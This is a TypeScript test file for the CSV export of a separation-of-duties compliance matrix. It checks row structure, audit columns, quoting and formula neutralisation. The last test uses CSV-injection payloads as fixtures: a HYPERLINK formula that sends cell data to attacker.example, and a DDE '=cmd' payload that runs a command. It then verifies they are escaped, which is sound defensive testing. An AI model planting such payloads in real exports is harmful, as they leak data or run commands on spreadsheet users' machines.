/**
 * The matrix as CSV opens in a spreadsheet with one row per requirement-control pair, survives
 * awkward text (commas, quotes, line breaks) and never lets a cell run as a formula.
 */
import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import type { MatrixView } from '../../shared/domain/matrix.js';
import type { Person } from '../../shared/domain/people.js';
import { addPerson, createHarness, parseCsv, type Harness } from './harness.js';

let harness: Harness;
let reviewer: Person;

beforeEach(async () => {
  harness = await createHarness();
  reviewer = await addPerson(harness, 'Rita Adeyemi', 'external_reviewer');
});
afterEach(() => harness.dispose());

const HEADER_START = ['Requirement ID', 'Traditional requirement', 'Conflicting duty', 'Conflicting duty (second)'];

/** Reads the CSV as a spreadsheet would: BOM stripped, header split off, every record the same width. */
const readCsv = async () => {
  const { csv, rows } = await harness.call('matrix.csv', {});
  expect(csv.startsWith('\uFEFF'), 'a UTF-8 byte-order mark for spreadsheet programs').toBe(true);
  const records = parseCsv(csv.slice(1));
  const [header, ...data] = records;
  if (!header) throw new Error('the CSV has no header row');
  for (const record of data) expect(record.length).toBe(header.length);
  const column = (name: string) => {
    const index = header.indexOf(name);
    if (index < 0) throw new Error(`no column named ${name}`);
    return index;
  };
  return { csv, rows, header, data, column };
};

const linkCount = (matrix: MatrixView) => matrix.requirements.reduce((sum, requirement) => sum + Math.max(1, requirement.controls.length), 0);

describe('matrix.csv', () => {
  it('gives only the header row for an empty matrix', async () => {
    const { rows, header, data } = await readCsv();
    expect(rows).toBe(0);
    expect(data).toEqual([]);
    expect(header.slice(0, HEADER_START.length)).toEqual(HEADER_START);
  });

  it('has one row per requirement-control pair, with the columns an auditor reads', async () => {
    const matrix = await harness.call('matrix.applyTemplate', { template: 'solo' });
    const pairs = matrix.requirements.reduce((sum, requirement) => sum + requirement.controls.length, 0);
    const { rows, header, data, column } = await readCsv();
    expect(rows).toBe(pairs);
    expect(data).toHaveLength(pairs);
    for (const name of [
      'Risk if combined',
      'Compensating control',
      'Why this control',
      'SOC 2 criteria',
      'ISO 27001 criteria',
      'Evidence expected',
      'Frequency',
      'Performer',
      'Independent reviewer',
      'Status',
    ]) {
      expect(header).toContain(name);
    }

    // Each requirement appears as many times as it has controls, and each pair exactly once.
    for (const requirement of matrix.requirements) {
      const rowsOfRequirement = data.filter((record) => record[column('Requirement ID')] === requirement.catalogId);
      expect(rowsOfRequirement, requirement.catalogId ?? requirement.id).toHaveLength(requirement.controls.length);
      const controlIds = rowsOfRequirement.map((record) => record[column('Control ID')]);
      expect(new Set(controlIds).size).toBe(controlIds.length);
    }

    const codeReviewRow = data.find(
      (record) => record[column('Requirement ID')] === 'SOD-CODE-REVIEW' && record[column('Control ID')] === 'CC-AUTOMATED-REVIEW',
    );
    expect(codeReviewRow?.[column('SOC 2 criteria')]).toContain('CC8.1');
    expect(codeReviewRow?.[column('ISO 27001 criteria')]).toContain('A.8.32');
    expect(codeReviewRow?.[column('Evidence sources')]).toContain('GitHub pull requests');
    expect(codeReviewRow?.[column('Performer')]).toBe(harness.owner.name);
    expect(codeReviewRow?.[column('Independent reviewer')]).toBe(reviewer.name);
    expect(codeReviewRow?.[column('Frequency')]).toBe('On every change');
    expect(codeReviewRow?.[column('Why this control')]).not.toBe('');
  });

  it('gives a requirement with no control a row of its own', async () => {
    await harness.call('matrix.applyTemplate', { template: 'solo' });
    const lonely = await harness.call('matrix.requirement.add', {
      title: 'Refunds are approved by someone other than the person who issues them',
      dutyA: 'Issue refunds',
      dutyB: 'Approve refunds',
      riskStatement: 'Money leaves the company with nobody else aware of it.',
    });
    await harness.call('matrix.requirement.update', { id: lonely.id, coveredByAcceptance: 'RA-2026-004' });
    const matrix = await harness.call('matrix.get', {});
    const { rows, data, column } = await readCsv();
    expect(rows).toBe(linkCount(matrix));
    const lonelyRows = data.filter((record) => record[column('Requirement ID')] === lonely.id);
    expect(lonelyRows).toHaveLength(1);
    expect(lonelyRows[0]?.[column('Control ID')]).toBe('');
    expect(lonelyRows[0]?.[column('Compensating control')]).toMatch(/no compensating control/);
    expect(lonelyRows[0]?.[column('Risk acceptance')]).toBe('RA-2026-004');
  });

  it('quotes a value holding a comma, a quote and a line break, and reads back unchanged', async () => {
    const title = 'Payments, refunds and "chargebacks"\nare approved by finance';
    const added = await harness.call('matrix.requirement.add', {
      title,
      dutyA: 'Issue a refund, credit or chargeback',
      dutyB: 'Approve it',
      riskStatement: 'Money leaves with "nobody" else aware.',
    });
    const { csv, data, column } = await readCsv();
    expect(csv).toContain('"Payments, refunds and ""chargebacks""\nare approved by finance"');
    expect(csv).toContain('"Issue a refund, credit or chargeback"');
    const row = data.find((record) => record[column('Requirement ID')] === added.id);
    expect(row?.[column('Traditional requirement')]).toBe(title);
    expect(row?.[column('Risk if combined')]).toBe('Money leaves with "nobody" else aware.');
  });

  it('neutralises cells a spreadsheet would run as a formula', async () => {
    const formula = '=HYPERLINK("http://attacker.example/?"&A1,"Click for details")';
    const requirement = await harness.call('matrix.requirement.add', {
      title: formula,
      dutyA: '+1 approve',
      dutyB: '@SUM(A1:A9)',
      riskStatement: '-2+3 is what happens.',
    });
    await harness.call('matrix.control.add', {
      requirementId: requirement.id,
      custom: {
        title: '=cmd|" /C calc"!A0',
        description: 'A control with a hostile title.',
        nature: 'detective',
        automation: 'manual',
        frequency: 'monthly',
        evidenceKinds: ['document'],
        evidenceExpected: '=1+1',
        criteria: { soc2: ['CC5.1'], iso27001: ['A.5.3'] },
      },
      rationale: '@risk the reviewer looks monthly.',
    });
    const { data, column } = await readCsv();
    const row = data.find((record) => record[column('Requirement ID')] === requirement.id);
    expect(row?.[column('Traditional requirement')]).toBe(`'${formula}`);
    expect(row?.[column('Conflicting duty')]).toBe("'+1 approve");
    expect(row?.[column('Conflicting duty (second)')]).toBe("'@SUM(A1:A9)");
    expect(row?.[column('Risk if combined')]).toBe("'-2+3 is what happens.");
    expect(row?.[column('Compensating control')]).toBe('\'=cmd|" /C calc"!A0');
    expect(row?.[column('Evidence expected')]).toBe("'=1+1");
    expect(row?.[column('Why this control')]).toBe("'@risk the reviewer looks monthly.");
    // No cell anywhere starts with a formula character.
    for (const record of data) for (const cell of record) expect(cell, cell).not.toMatch(/^[=+\-@\t\r]/);
  });
});
